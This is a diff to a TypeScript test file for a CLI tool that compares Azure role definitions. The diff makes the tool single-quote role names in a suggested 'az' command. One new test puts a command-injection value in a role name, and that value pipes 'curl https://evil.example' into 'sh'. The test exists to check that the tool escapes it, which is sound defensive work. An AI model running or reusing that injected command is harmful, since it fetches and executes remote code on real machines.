@@ -50,8 +50,7 @@ async function refusedLine(args: string[]): Promise<string> {
   return result.stderr;
 }
 
-const AZ_ROLE_LIST =
-  'az role definition list --name "JIT Access Requester" --query "[0]" -o json > role.json';
+const AZ_ROLE_LIST = `az role definition list --name 'JIT Access Requester' --query "[0]" -o json > role.json`;
 
 describe('jit-guardrail role diff', () => {
   it('in sync: exit 0, order and case ignored, permissions unioned', async () => {
@@ -119,7 +118,7 @@ describe('jit-guardrail role diff', () => {
     [
       'a missing file',
       ['role', 'diff', '/nonexistent.json'],
-      /cannot read role definition \/nonexistent.json: ENOENT/,
+      /cannot read role definition \/nonexistent.json: no such file/,
     ],
     ['not JSON', ['role', 'diff', 'TEXT:nope'], /role definition .*: Unexpected token/],
     ['not a role', ['role', 'diff', 'TEXT:{"name":"x"}'], /not a role definition/],
@@ -174,7 +173,16 @@ describe('jit-guardrail role diff', () => {
   it('az role definition list without --query "[0]": names the fix with the role\'s own name', async () => {
     const actual = file('list-1.json', [azCliRole('Team JIT Requester')]);
     expect(await refusedLine(['role', 'diff', actual])).toBe(
-      `jit-guardrail role diff: role definition ${actual} is a list of 1 role definition as 'az role definition list' prints it; add --query "[0]": az role definition list --name "Team JIT Requester" --query "[0]" -o json > role.json`,
+      `jit-guardrail role diff: role definition ${actual} is a list of 1 role definition as 'az role definition list' prints it; add --query "[0]": az role definition list --name 'Team JIT Requester' --query "[0]" -o json > role.json`,
+    );
+  });
+
+  it('a role name from the file is quoted for the shell: a pasted command runs nothing it holds', async () => {
+    const actual = file('list-hostile.json', [
+      azCliRole(`x"; curl -s https://evil.example | sh; echo "it's`),
+    ]);
+    expect(await refusedLine(['role', 'diff', actual])).toContain(
+      `az role definition list --name 'x"; curl -s https://evil.example | sh; echo "it'\\''s' --query "[0]"`,
     );
   });
 
